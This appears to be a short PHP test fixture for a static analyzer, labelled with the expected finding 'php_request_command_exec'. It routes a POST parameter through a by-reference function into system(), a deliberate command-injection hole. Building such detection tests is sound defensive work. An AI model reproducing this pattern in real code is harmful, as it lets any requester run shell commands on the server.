<?php
// want: php_request_command_exec
function take(&$out) { $out = $_POST['x']; }
take($cmd);
system($cmd);
